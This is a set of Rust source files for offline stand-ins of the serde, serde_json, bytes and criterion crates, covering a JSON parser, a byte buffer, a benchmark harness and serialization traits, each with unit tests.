        if self.bytes[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            Ok(value)
        } else {
            Err(Error(format!("bad literal at byte {}", self.pos)))
        }
    }

    fn value(&mut self) -> Result<Value> {
        match self.peek()? {
            b'n' => self.literal("null", Value::Null),
            b't' => self.literal("true", Value::Bool(true)),
            b'f' => self.literal("false", Value::Bool(false)),
            b'"' => self.string().map(Value::String),
            b'[' => self.array(),
            b'{' => self.object(),
            b'-' | b'0'..=b'9' => self.number(),
            other => Err(Error(format!(
                "unexpected `{}` at byte {}",
                other as char, self.pos
            ))),
        }
    }

    fn array(&mut self) -> Result<Value> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        if self.peek()? == b']' {
            self.pos += 1;
            return Ok(Value::Array(items));
        }
        loop {
            items.push(self.value()?);
            match self.peek()? {
                b',' => self.pos += 1,
                b']' => {
                    self.pos += 1;
                    return Ok(Value::Array(items));
                }
                other => {
                    return Err(Error(format!(
                        "expected `,` or `]`, found `{}` at byte {}",
                        other as char, self.pos
                    )))
                }
            }
        }
    }

    fn object(&mut self) -> Result<Value> {
        self.expect(b'{')?;
        let mut entries = Vec::new();
        if self.peek()? == b'}' {
            self.pos += 1;
            return Ok(Value::Object(entries));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.expect(b':')?;
            entries.push((key, self.value()?));
            match self.peek()? {
                b',' => self.pos += 1,
                b'}' => {
                    self.pos += 1;
                    return Ok(Value::Object(entries));
                }
                other => {
                    return Err(Error(format!(
                        "expected `,` or `}}`, found `{}` at byte {}",
                        other as char, self.pos
                    )))
                }
            }
        }
    }

    fn string(&mut self) -> Result<String> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            let start = self.pos;
            // Fast-forward over the unescaped run.
            while !matches!(self.bytes.get(self.pos), None | Some(b'"' | b'\\')) {
                self.pos += 1;
            }
            out.push_str(
                std::str::from_utf8(&self.bytes[start..self.pos])
                    .map_err(|e| Error(format!("invalid UTF-8 in string: {e}")))?,
            );
            match self.bytes.get(self.pos) {
                None => return Err(Error("unterminated string".to_string())),
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    let esc = *self
                        .bytes
                        .get(self.pos)
                        .ok_or_else(|| Error("unterminated escape".to_string()))?;
                    self.pos += 1;
                    match esc {
                        b'"' => out.push('"'),
                        b'\\' => out.push('\\'),
                        b'/' => out.push('/'),
                        b'b' => out.push('\u{0008}'),
                        b'f' => out.push('\u{000c}'),
                        b'n' => out.push('\n'),
                        b'r' => out.push('\r'),
                        b't' => out.push('\t'),
                        b'u' => {
                            let unit = self.hex4()?;
                            let c = if (0xd800..0xdc00).contains(&unit) {
                                // High surrogate: a \uXXXX low half must follow.
                                if self.bytes[self.pos..].starts_with(b"\\u") {
                                    self.pos += 2;
                                    let low = self.hex4()?;
                                    let combined = 0x10000
                                        + ((unit - 0xd800) << 10)
                                        + low.checked_sub(0xdc00).ok_or_else(|| {
                                            Error("bad low surrogate".to_string())
                                        })?;
                                    char::from_u32(combined)
                                } else {
                                    None
                                }
                            } else {
                                char::from_u32(unit)
                            };
                            out.push(
                                c.ok_or_else(|| Error(format!("bad \\u escape {unit:#06x}")))?,
                            );
                        }
                        other => return Err(Error(format!("bad escape `\\{}`", other as char))),
                    }
                }
                Some(_) => unreachable!("loop stops only at quote, backslash, or end"),
            }
        }
    }

    fn hex4(&mut self) -> Result<u32> {
        let digits = self
            .bytes
            .get(self.pos..self.pos + 4)
            .ok_or_else(|| Error("truncated \\u escape".to_string()))?;
        let text = std::str::from_utf8(digits).map_err(|_| Error("bad \\u escape".to_string()))?;
        let unit =
            u32::from_str_radix(text, 16).map_err(|_| Error(format!("bad \\u escape {text}")))?;
        self.pos += 4;
        Ok(unit)
    }

    fn number(&mut self) -> Result<Value> {
        let start = self.pos;
        if self.bytes.get(self.pos) == Some(&b'-') {
            self.pos += 1;
        }
        let mut float = false;
        while let Some(&b) = self.bytes.get(self.pos) {
            match b {
                b'0'..=b'9' => self.pos += 1,
                b'.' | b'e' | b'E' | b'+' | b'-' => {
                    float = true;
                    self.pos += 1;
                }
                _ => break,
            }
        }
        let text =
            std::str::from_utf8(&self.bytes[start..self.pos]).expect("number bytes are ASCII");
        if float {
            text.parse::<f64>()
                .map(|v| Value::Number(Number::F(v)))
                .map_err(|_| Error(format!("bad number `{text}`")))
        } else if text.starts_with('-') {
            text.parse::<i64>()
                .map(|v| Value::Number(Number::I(v)))
                .map_err(|_| Error(format!("bad number `{text}`")))
        } else {
            text.parse::<u64>()
                .map(|v| Value::Number(Number::U(v)))
                .map_err(|_| Error(format!("bad number `{text}`")))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn map_preserves_insertion_order() {
        let mut m = Map::new();
        m.insert("z".into(), Value::from(1u64));
        m.insert("a".into(), Value::from(2u64));
        assert_eq!(to_string(&m).unwrap(), "{\"z\":1,\"a\":2}");
        m.insert("z".into(), Value::from(3u64));
        assert_eq!(to_string(&m).unwrap(), "{\"z\":3,\"a\":2}");
    }

    #[test]
    fn pretty_rendering() {
        let mut m = Map::new();
        m.insert("k".into(), Value::from("v"));
        assert_eq!(to_string_pretty(&m).unwrap(), "{\n  \"k\": \"v\"\n}");
    }

    #[test]
    fn parser_round_trips_every_shape() {
        let v = Value::Object(vec![
            ("nil".into(), Value::Null),
            ("flag".into(), Value::Bool(true)),
            ("n".into(), Value::Number(Number::U(42))),
            ("neg".into(), Value::Number(Number::I(-9))),
            ("pi".into(), Value::Number(Number::F(3.25))),
            ("text".into(), Value::String("a\"b\\c\nd\u{0007}é".into())),
            (
                "list".into(),
                Value::Array(vec![Value::Null, Value::Bool(false)]),
            ),
            ("empty_list".into(), Value::Array(vec![])),
            ("empty_obj".into(), Value::Object(vec![])),
        ]);
        assert_eq!(parse_value(&v.render_compact()).unwrap(), v);
        assert_eq!(parse_value(&v.render_pretty()).unwrap(), v);
    }

    #[test]
    fn parser_handles_escapes_and_surrogates() {
        assert_eq!(
            parse_value(r#""A\n\t\/é""#).unwrap(),
            Value::String("A\n\t/é".into())
        );
        // Astral plane as raw UTF-8 and via a \u surrogate pair.
        assert_eq!(parse_value("\"😀\"").unwrap(), Value::String("😀".into()));
        assert_eq!(
            parse_value("\"\\ud83d\\ude00\"").unwrap(),
            Value::String("😀".into())
        );
    }

    #[test]
    fn parser_rejects_garbage() {
        for bad in [
            "",
            "{",
            "[1,",
            "tru",
            "\"unterminated",
            "{\"a\" 1}",
            "1 2",
            "nul",
        ] {
            assert!(parse_value(bad).is_err(), "{bad:?} must not parse");
        }
    }

    #[test]
    fn number_extremes_round_trip() {
        for v in [
            Value::Number(Number::U(u64::MAX)),
            Value::Number(Number::I(i64::MIN)),
        ] {
            assert_eq!(parse_value(&v.render_compact()).unwrap(), v);
        }
    }

    #[test]
    fn typed_from_str() {
        let n: u64 = from_str("42").unwrap();
        assert_eq!(n, 42);
        let v: Vec<Option<bool>> = from_slice(b"[true,null]").unwrap();
        assert_eq!(v, vec![Some(true), None]);
        let s: String = from_value(Value::from("hello")).unwrap();
        assert_eq!(s, "hello");
    }
}
