//! Offline-compatible subset of the `bytes` API: an immutable, cheaply
//! clonable byte buffer. Cloning shares the underlying allocation.

#![forbid(unsafe_code)]

use std::fmt;
use std::ops::Deref;
use std::sync::Arc;

#[derive(Clone, Default)]
pub struct Bytes {
    data: Arc<[u8]>,
}

impl Bytes {
    pub fn new() -> Self {
        Bytes {
            data: Arc::from(&[][..]),
        }
    }

    pub fn copy_from_slice(data: &[u8]) -> Self {
        Bytes {
            data: Arc::from(data),
        }
    }

    pub fn len(&self) -> usize {
        self.data.len()
    }

    pub fn is_empty(&self) -> bool {
        self.data.is_empty()
    }

    #[allow(clippy::should_implement_trait)]
    pub fn as_ref(&self) -> &[u8] {
        &self.data
    }

    pub fn to_vec(&self) -> Vec<u8> {
        self.data.to_vec()
    }
}

impl Deref for Bytes {
    type Target = [u8];

    fn deref(&self) -> &[u8] {
        &self.data
    }
}

impl AsRef<[u8]> for Bytes {
    fn as_ref(&self) -> &[u8] {
        &self.data
    }
}

impl From<Vec<u8>> for Bytes {
    fn from(v: Vec<u8>) -> Self {
        Bytes { data: Arc::from(v) }
    }
}

impl From<String> for Bytes {
    fn from(s: String) -> Self {
        Bytes::from(s.into_bytes())
    }
}

impl From<&'static str> for Bytes {
    fn from(s: &'static str) -> Self {
        Bytes::copy_from_slice(s.as_bytes())
    }
}

impl From<&'static [u8]> for Bytes {
    fn from(s: &'static [u8]) -> Self {
        Bytes::copy_from_slice(s)
    }
}

impl<const N: usize> From<[u8; N]> for Bytes {
    fn from(a: [u8; N]) -> Self {
        Bytes::copy_from_slice(&a)
    }
}

impl PartialEq for Bytes {
    fn eq(&self, other: &Self) -> bool {
        self.data == other.data
    }
}

impl Eq for Bytes {}

impl PartialEq<[u8]> for Bytes {
    fn eq(&self, other: &[u8]) -> bool {
        &*self.data == other
    }
}

impl std::hash::Hash for Bytes {
    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {
        self.data.hash(state);
    }
}

impl PartialOrd for Bytes {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

impl Ord for Bytes {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        self.data.cmp(&other.data)
    }
}

impl fmt::Debug for Bytes {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "b\"")?;
        for &byte in self.data.iter() {
            if byte.is_ascii_graphic() || byte == b' ' {
                write!(f, "{}", byte as char)?;
            } else {
                write!(f, "\\x{byte:02x}")?;
            }
        }
        write!(f, "\"")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_and_share() {
        let b = Bytes::from(vec![1, 2, 3]);
        let c = b.clone();
        assert_eq!(b, c);
        assert_eq!(b.len(), 3);
        assert_eq!(&b[..], &[1, 2, 3]);
    }

    #[test]
    fn from_string() {
        let b = Bytes::from(String::from("hi"));
        assert_eq!(&b[..], b"hi");
    }
}
