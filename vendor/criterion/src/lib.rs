//! Offline-compatible subset of the `criterion` API.
//!
//! Benchmarks run as plain wall-clock sampling: each benchmark executes
//! `sample_size` timed iterations (after one warm-up) and prints the mean,
//! min and max per-iteration time. Under `cargo test` (no `--bench` in
//! argv) every benchmark runs a single iteration so bench targets stay
//! cheap smoke tests; `cargo bench` triggers full sampling.

#![forbid(unsafe_code)]

use std::time::{Duration, Instant};

pub use std::hint::black_box;

#[derive(Debug, Clone, Copy)]
pub enum BatchSize {
    SmallInput,
    LargeInput,
    PerIteration,
}

#[derive(Debug, Clone, Copy)]
pub enum Throughput {
    Elements(u64),
    Bytes(u64),
}

/// A benchmark identifier (criterion renders these as `group/param`).
pub struct BenchmarkId {
    id: String,
}

impl BenchmarkId {
    pub fn new(function_name: impl Into<String>, parameter: impl std::fmt::Display) -> Self {
        BenchmarkId {
            id: format!("{}/{}", function_name.into(), parameter),
        }
    }

    pub fn from_parameter(parameter: impl std::fmt::Display) -> Self {
        BenchmarkId {
            id: parameter.to_string(),
        }
    }
}

pub struct Bencher {
    samples: Vec<Duration>,
    iterations: usize,
}

impl Bencher {
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut routine: F) {
        // Warm-up round, untimed.
        black_box(routine());
        for _ in 0..self.iterations {
            let start = Instant::now();
            black_box(routine());
            self.samples.push(start.elapsed());
        }
    }

    pub fn iter_batched<S, O, Setup, Routine>(
        &mut self,
        mut setup: Setup,
        mut routine: Routine,
        _size: BatchSize,
    ) where
        Setup: FnMut() -> S,
        Routine: FnMut(S) -> O,
    {
        black_box(routine(setup()));
        for _ in 0..self.iterations {
            let input = setup();
            let start = Instant::now();
            black_box(routine(input));
            self.samples.push(start.elapsed());
        }
    }
}

fn format_duration(d: Duration) -> String {
    let nanos = d.as_nanos();
    if nanos >= 1_000_000_000 {
        format!("{:.3} s", nanos as f64 / 1e9)
    } else if nanos >= 1_000_000 {
        format!("{:.3} ms", nanos as f64 / 1e6)
    } else if nanos >= 1_000 {
        format!("{:.3} µs", nanos as f64 / 1e3)
    } else {
        format!("{nanos} ns")
    }
}

fn run_one(
    id: &str,
    iterations: usize,
    throughput: Option<Throughput>,
    f: &mut dyn FnMut(&mut Bencher),
) {
    let mut bencher = Bencher {
        samples: Vec::new(),
        iterations,
    };
    f(&mut bencher);
    if bencher.samples.is_empty() {
        println!("{id:<50} (no samples)");
        return;
    }
    let total: Duration = bencher.samples.iter().sum();
    let mean = total / bencher.samples.len() as u32;
    let min = bencher.samples.iter().min().copied().unwrap_or_default();
    let max = bencher.samples.iter().max().copied().unwrap_or_default();
    let rate = match throughput {
        Some(Throughput::Elements(n)) if mean.as_nanos() > 0 => {
            format!("  {:.0} elem/s", n as f64 / mean.as_secs_f64())
        }
        Some(Throughput::Bytes(n)) if mean.as_nanos() > 0 => {
            format!("  {:.0} B/s", n as f64 / mean.as_secs_f64())
        }
        _ => String::new(),
    };
    println!(
        "{id:<50} mean {} (min {}, max {}, n={}){rate}",
        format_duration(mean),
        format_duration(min),
        format_duration(max),
        bencher.samples.len(),
    );
}

pub struct Criterion {
    sample_size: usize,
    full_run: bool,
}

impl Default for Criterion {
    fn default() -> Self {
        // `cargo bench` invokes bench binaries with `--bench`; anything
        // else (notably `cargo test`) gets single-iteration smoke runs.
        let full_run = std::env::args().any(|a| a == "--bench");
        Criterion {
            sample_size: 20,
            full_run,
        }
    }
}

impl Criterion {
    pub fn sample_size(mut self, n: usize) -> Self {
        assert!(n > 0, "sample_size must be positive");
        self.sample_size = n;
        self
    }

    fn iterations(&self) -> usize {
        if self.full_run {
            self.sample_size
        } else {
            1
        }
    }

    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, id: &str, mut f: F) -> &mut Self {
        run_one(id, self.iterations(), None, &mut f);
        self
    }

    pub fn benchmark_group(&mut self, name: &str) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            parent: self,
            name: name.to_string(),
            sample_size: None,
            throughput: None,
        }
    }
}

pub struct BenchmarkGroup<'a> {
    parent: &'a mut Criterion,
    name: String,
    sample_size: Option<usize>,
    throughput: Option<Throughput>,
}

impl<'a> BenchmarkGroup<'a> {
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        assert!(n > 0, "sample_size must be positive");
        self.sample_size = Some(n);
        self
    }

    pub fn throughput(&mut self, throughput: Throughput) -> &mut Self {
        self.throughput = Some(throughput);
        self
    }

    fn iterations(&self) -> usize {
        if self.parent.full_run {
            self.sample_size.unwrap_or(self.parent.sample_size)
        } else {
            1
        }
    }

    pub fn bench_function<F: FnMut(&mut Bencher)>(
        &mut self,
        id: BenchmarkId,
        mut f: F,
    ) -> &mut Self {
        let full_id = format!("{}/{}", self.name, id.id);
        run_one(&full_id, self.iterations(), self.throughput, &mut f);
        self
    }

    pub fn bench_with_input<I, F>(&mut self, id: BenchmarkId, input: &I, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher, &I),
    {
        let full_id = format!("{}/{}", self.name, id.id);
        run_one(&full_id, self.iterations(), self.throughput, &mut |b| {
            f(b, input)
        });
        self
    }

    pub fn finish(self) {}
}

#[macro_export]
macro_rules! criterion_group {
    (name = $name:ident; config = $cfg:expr; targets = $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut criterion = $cfg;
            $($target(&mut criterion);)+
        }
    };
    ($name:ident, $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut criterion = $crate::Criterion::default();
            $($target(&mut criterion);)+
        }
    };
}

#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $($group();)+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bench_function_runs() {
        let mut c = Criterion {
            sample_size: 3,
            full_run: true,
        };
        let mut count = 0;
        c.bench_function("t", |b| b.iter(|| count += 1));
        // warm-up + 3 samples
        assert_eq!(count, 4);
    }

    #[test]
    fn group_runs_with_input() {
        let mut c = Criterion {
            sample_size: 2,
            full_run: true,
        };
        let mut group = c.benchmark_group("g");
        group.throughput(Throughput::Elements(10));
        group.bench_with_input(BenchmarkId::from_parameter(5), &5, |b, &n| {
            b.iter(|| n * 2);
        });
        group.finish();
    }
}
