//! Offline-compatible subset of `serde`.
//!
//! Instead of serde's visitor-based serializer architecture, this stub
//! serializes straight to an owned JSON value tree ([`value::Value`]),
//! which is all the workspace uses (`serde_json::to_value` /
//! `to_string_pretty`). The derive macros generate impls of these
//! simplified traits with serde_json's standard data conventions:
//! structs → objects, newtype structs → their inner value, tuple structs →
//! arrays, unit enum variants → strings, data-carrying variants →
//! single-key objects.
//!
//! Deserialization is the mirror image: [`Deserialize`] reads a type back
//! out of a [`value::Value`] tree (parsed from text by `serde_json`), with
//! the same data conventions, so every `Serialize`d value round-trips.

#![forbid(unsafe_code)]

pub use serde_derive::{Deserialize, Serialize};

pub mod value;

use std::fmt;
use value::{Number, Value};

/// A type serializable to a JSON value tree.
pub trait Serialize {
    fn to_json_value(&self) -> Value;
}

/// Deserialization failure: a human-readable path + reason.
#[derive(Debug, Clone)]
pub struct DeError(pub String);

impl fmt::Display for DeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for DeError {}

/// Build a [`DeError`] (used by generated derive code).
pub fn de_error(msg: impl Into<String>) -> DeError {
    DeError(msg.into())
}

/// A type readable back out of a JSON value tree.
pub trait Deserialize: Sized {
    fn from_json_value(value: &Value) -> Result<Self, DeError>;
}

/// Look up `field` of an object and deserialize it. A missing key is
/// treated as `null` (so `Option` fields tolerate elision) and reported as
/// an error for everything else.
pub fn de_field<T: Deserialize>(value: &Value, ty: &str, field: &str) -> Result<T, DeError> {
    let Value::Object(entries) = value else {
        return Err(de_error(format!("{ty}: expected an object, found {value}")));
    };
    match entries.iter().find(|(k, _)| k == field) {
        Some((_, v)) => T::from_json_value(v).map_err(|e| DeError(format!("{ty}.{field}: {e}"))),
        None => T::from_json_value(&Value::Null)
            .map_err(|_| de_error(format!("{ty}: missing field `{field}`"))),
    }
}

/// Index into an array value and deserialize the element (tuple structs and
/// tuple enum variants).
pub fn de_index<T: Deserialize>(value: &Value, ty: &str, idx: usize) -> Result<T, DeError> {
    let Value::Array(items) = value else {
        return Err(de_error(format!("{ty}: expected an array, found {value}")));
    };
    match items.get(idx) {
        Some(v) => T::from_json_value(v).map_err(|e| DeError(format!("{ty}[{idx}]: {e}"))),
        None => Err(de_error(format!("{ty}: missing element {idx}"))),
    }
}

// ---- primitive impls ----------------------------------------------------

macro_rules! ser_uint {
    ($($t:ty),*) => {$(
        impl Serialize for $t {
            fn to_json_value(&self) -> Value {
                Value::Number(Number::U(*self as u64))
            }
        }
        impl Deserialize for $t {
            fn from_json_value(value: &Value) -> Result<$t, DeError> {
                let wide = match value {
                    Value::Number(Number::U(v)) => *v,
                    Value::Number(Number::I(v)) if *v >= 0 => *v as u64,
                    other => {
                        return Err(de_error(format!(
                            concat!("expected ", stringify!($t), ", found {}"),
                            other
                        )))
                    }
                };
                <$t>::try_from(wide).map_err(|_| {
                    de_error(format!(concat!(stringify!($t), " out of range: {}"), wide))
                })
            }
        }
    )*};
}

macro_rules! ser_int {
    ($($t:ty),*) => {$(
        impl Serialize for $t {
            fn to_json_value(&self) -> Value {
                Value::Number(Number::I(*self as i64))
            }
        }
        impl Deserialize for $t {
            fn from_json_value(value: &Value) -> Result<$t, DeError> {
                let wide = match value {
                    Value::Number(Number::I(v)) => *v,
                    Value::Number(Number::U(v)) if *v <= i64::MAX as u64 => *v as i64,
                    other => {
                        return Err(de_error(format!(
                            concat!("expected ", stringify!($t), ", found {}"),
                            other
                        )))
                    }
                };
                <$t>::try_from(wide).map_err(|_| {
                    de_error(format!(concat!(stringify!($t), " out of range: {}"), wide))
                })
            }
        }
    )*};
}

ser_uint!(u8, u16, u32, u64, usize);
ser_int!(i8, i16, i32, i64, isize);

impl Serialize for f64 {
    fn to_json_value(&self) -> Value {
        Value::Number(Number::F(*self))
    }
}
impl Deserialize for f64 {
    fn from_json_value(value: &Value) -> Result<f64, DeError> {
        match value {
            Value::Number(Number::F(v)) => Ok(*v),
            Value::Number(Number::U(v)) => Ok(*v as f64),
            Value::Number(Number::I(v)) => Ok(*v as f64),
            // The writer renders non-finite floats as null.
            Value::Null => Ok(f64::NAN),
            other => Err(de_error(format!("expected f64, found {other}"))),
        }
    }
}

impl Serialize for f32 {
    fn to_json_value(&self) -> Value {
        Value::Number(Number::F(*self as f64))
    }
}
impl Deserialize for f32 {
    fn from_json_value(value: &Value) -> Result<f32, DeError> {
        f64::from_json_value(value).map(|v| v as f32)
    }
}

impl Serialize for bool {
    fn to_json_value(&self) -> Value {
        Value::Bool(*self)
    }
}
impl Deserialize for bool {
    fn from_json_value(value: &Value) -> Result<bool, DeError> {
        match value {
            Value::Bool(b) => Ok(*b),
            other => Err(de_error(format!("expected bool, found {other}"))),
        }
    }
}

impl Serialize for String {
    fn to_json_value(&self) -> Value {
        Value::String(self.clone())
    }
}
impl Deserialize for String {
    fn from_json_value(value: &Value) -> Result<String, DeError> {
        match value {
            Value::String(s) => Ok(s.clone()),
            other => Err(de_error(format!("expected string, found {other}"))),
        }
    }
}

impl Serialize for str {
    fn to_json_value(&self) -> Value {
        Value::String(self.to_string())
    }
}

impl Serialize for char {
    fn to_json_value(&self) -> Value {
        Value::String(self.to_string())
    }
}
impl Deserialize for char {
    fn from_json_value(value: &Value) -> Result<char, DeError> {
        match value {
            Value::String(s) if s.chars().count() == 1 => Ok(s.chars().next().expect("one char")),
            other => Err(de_error(format!(
                "expected single-char string, found {other}"
            ))),
        }
    }
}

// ---- composite impls ----------------------------------------------------

impl<T: Serialize + ?Sized> Serialize for &T {
    fn to_json_value(&self) -> Value {
        (**self).to_json_value()
    }
}

impl<T: Serialize + ?Sized> Serialize for Box<T> {
    fn to_json_value(&self) -> Value {
        (**self).to_json_value()
    }
}

impl<T: Deserialize> Deserialize for Box<T> {
    fn from_json_value(value: &Value) -> Result<Box<T>, DeError> {
        T::from_json_value(value).map(Box::new)
    }
}

impl<T: Serialize> Serialize for Option<T> {
    fn to_json_value(&self) -> Value {
        match self {
            Some(v) => v.to_json_value(),
            None => Value::Null,
        }
    }
}
impl<T: Deserialize> Deserialize for Option<T> {
    fn from_json_value(value: &Value) -> Result<Option<T>, DeError> {
        match value {
            Value::Null => Ok(None),
            other => T::from_json_value(other).map(Some),
        }
    }
}

impl<T: Serialize> Serialize for Vec<T> {
    fn to_json_value(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_json_value).collect())
    }
}
impl<T: Deserialize> Deserialize for Vec<T> {
    fn from_json_value(value: &Value) -> Result<Vec<T>, DeError> {
        match value {
            Value::Array(items) => items.iter().map(T::from_json_value).collect(),
            other => Err(de_error(format!("expected array, found {other}"))),
        }
    }
}

impl<T: Serialize> Serialize for [T] {
    fn to_json_value(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_json_value).collect())
    }
}

impl<T: Serialize, const N: usize> Serialize for [T; N] {
    fn to_json_value(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_json_value).collect())
    }
}
impl<T: Deserialize, const N: usize> Deserialize for [T; N] {
    fn from_json_value(value: &Value) -> Result<[T; N], DeError> {
        let items = Vec::<T>::from_json_value(value)?;
        let len = items.len();
        items
            .try_into()
            .map_err(|_| de_error(format!("expected array of {N}, found {len}")))
    }
}

macro_rules! ser_tuple {
    ($(($($name:ident : $idx:tt),+))*) => {$(
        impl<$($name: Serialize),+> Serialize for ($($name,)+) {
            fn to_json_value(&self) -> Value {
                Value::Array(vec![$(self.$idx.to_json_value()),+])
            }
        }
        impl<$($name: Deserialize),+> Deserialize for ($($name,)+) {
            fn from_json_value(value: &Value) -> Result<($($name,)+), DeError> {
                Ok(($(de_index::<$name>(value, "tuple", $idx)?,)+))
            }
        }
    )*};
}

ser_tuple! {
    (A: 0)
    (A: 0, B: 1)
    (A: 0, B: 1, C: 2)
    (A: 0, B: 1, C: 2, D: 3)
}

/// Maps serialize as objects; keys must render as plain strings.
pub trait SerializeMapKey {
    fn as_key(&self) -> String;
}

/// The way back: parse a map key out of its string rendering.
pub trait DeserializeMapKey: Sized {
    fn from_key(key: &str) -> Result<Self, DeError>;
}

impl SerializeMapKey for String {
    fn as_key(&self) -> String {
        self.clone()
    }
}

impl DeserializeMapKey for String {
    fn from_key(key: &str) -> Result<String, DeError> {
        Ok(key.to_string())
    }
}

impl SerializeMapKey for &str {
    fn as_key(&self) -> String {
        (*self).to_string()
    }
}

macro_rules! key_display {
    ($($t:ty),*) => {$(
        impl SerializeMapKey for $t {
            fn as_key(&self) -> String {
                self.to_string()
            }
        }
        impl DeserializeMapKey for $t {
            fn from_key(key: &str) -> Result<$t, DeError> {
                key.parse::<$t>().map_err(|_| {
                    de_error(format!(concat!("bad ", stringify!($t), " map key: `{}`"), key))
                })
            }
        }
    )*};
}

key_display!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize, bool, char);

impl<K: SerializeMapKey, V: Serialize> Serialize for std::collections::BTreeMap<K, V> {
    fn to_json_value(&self) -> Value {
        Value::Object(
            self.iter()
                .map(|(k, v)| (k.as_key(), v.to_json_value()))
                .collect(),
        )
    }
}
impl<K: DeserializeMapKey + Ord, V: Deserialize> Deserialize for std::collections::BTreeMap<K, V> {
    fn from_json_value(value: &Value) -> Result<Self, DeError> {
        let Value::Object(entries) = value else {
            return Err(de_error(format!("expected object, found {value}")));
        };
        entries
            .iter()
            .map(|(k, v)| Ok((K::from_key(k)?, V::from_json_value(v)?)))
            .collect()
    }
}

impl<K: SerializeMapKey, V: Serialize> Serialize for std::collections::HashMap<K, V> {
    fn to_json_value(&self) -> Value {
        // Deterministic output: sort keys.
        let mut entries: Vec<(String, Value)> = self
            .iter()
            .map(|(k, v)| (k.as_key(), v.to_json_value()))
            .collect();
        entries.sort_by(|a, b| a.0.cmp(&b.0));
        Value::Object(entries)
    }
}
impl<K, V> Deserialize for std::collections::HashMap<K, V>
where
    K: DeserializeMapKey + std::hash::Hash + Eq,
    V: Deserialize,
{
    fn from_json_value(value: &Value) -> Result<Self, DeError> {
        let Value::Object(entries) = value else {
            return Err(de_error(format!("expected object, found {value}")));
        };
        entries
            .iter()
            .map(|(k, v)| Ok((K::from_key(k)?, V::from_json_value(v)?)))
            .collect()
    }
}

impl<T: Serialize> Serialize for std::collections::BTreeSet<T> {
    fn to_json_value(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_json_value).collect())
    }
}
impl<T: Deserialize + Ord> Deserialize for std::collections::BTreeSet<T> {
    fn from_json_value(value: &Value) -> Result<Self, DeError> {
        match value {
            Value::Array(items) => items.iter().map(T::from_json_value).collect(),
            other => Err(de_error(format!("expected array, found {other}"))),
        }
    }
}

impl Serialize for Value {
    fn to_json_value(&self) -> Value {
        self.clone()
    }
}
impl Deserialize for Value {
    fn from_json_value(value: &Value) -> Result<Value, DeError> {
        Ok(value.clone())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn primitives() {
        assert_eq!(1u64.to_json_value().render_compact(), "1");
        assert_eq!((-3i64).to_json_value().render_compact(), "-3");
        assert_eq!(true.to_json_value().render_compact(), "true");
        assert_eq!("x\"y".to_json_value().render_compact(), "\"x\\\"y\"");
        assert_eq!(1.5f64.to_json_value().render_compact(), "1.5");
    }

    #[test]
    fn composites() {
        assert_eq!(vec![1u64, 2].to_json_value().render_compact(), "[1,2]");
        assert_eq!(None::<u64>.to_json_value().render_compact(), "null");
        assert_eq!(Some(5u64).to_json_value().render_compact(), "5");
        assert_eq!((1u64, "a").to_json_value().render_compact(), "[1,\"a\"]");
    }

    #[test]
    fn primitives_round_trip() {
        let v = 42u64.to_json_value();
        assert_eq!(u64::from_json_value(&v).unwrap(), 42);
        assert_eq!(u8::from_json_value(&v).unwrap(), 42);
        assert!(u8::from_json_value(&300u64.to_json_value()).is_err());
        assert_eq!(i64::from_json_value(&(-7i64).to_json_value()).unwrap(), -7);
        assert_eq!(f64::from_json_value(&2.5f64.to_json_value()).unwrap(), 2.5);
        assert_eq!(bool::from_json_value(&Value::Bool(true)).unwrap(), true);
        assert_eq!(String::from_json_value(&Value::from("hi")).unwrap(), "hi");
        assert_eq!(char::from_json_value(&'x'.to_json_value()).unwrap(), 'x');
    }

    #[test]
    fn composites_round_trip() {
        let v = vec![1u64, 2, 3].to_json_value();
        assert_eq!(Vec::<u64>::from_json_value(&v).unwrap(), vec![1, 2, 3]);
        assert_eq!(Option::<u64>::from_json_value(&Value::Null).unwrap(), None);
        assert_eq!(
            Option::<u64>::from_json_value(&Value::from(9u64)).unwrap(),
            Some(9)
        );
        let t = (1u64, "a".to_string(), true).to_json_value();
        assert_eq!(
            <(u64, String, bool)>::from_json_value(&t).unwrap(),
            (1, "a".to_string(), true)
        );
        let mut map = std::collections::BTreeMap::new();
        map.insert("k".to_string(), 5u64);
        let m = map.to_json_value();
        assert_eq!(
            std::collections::BTreeMap::<String, u64>::from_json_value(&m).unwrap(),
            map
        );
    }

    #[test]
    fn type_mismatches_error() {
        assert!(u64::from_json_value(&Value::Bool(true)).is_err());
        assert!(Vec::<u64>::from_json_value(&Value::from("nope")).is_err());
        assert!(String::from_json_value(&Value::Null).is_err());
    }
}
