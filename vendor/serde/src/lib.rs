//! Offline-compatible subset of `serde`.
//!
//! Instead of serde's visitor-based serializer architecture, this stub
//! serializes straight to an owned JSON value tree ([`value::Value`]),
//! which is all the workspace uses (`serde_json::to_value` /
//! `to_string_pretty`). The derive macros generate impls of these
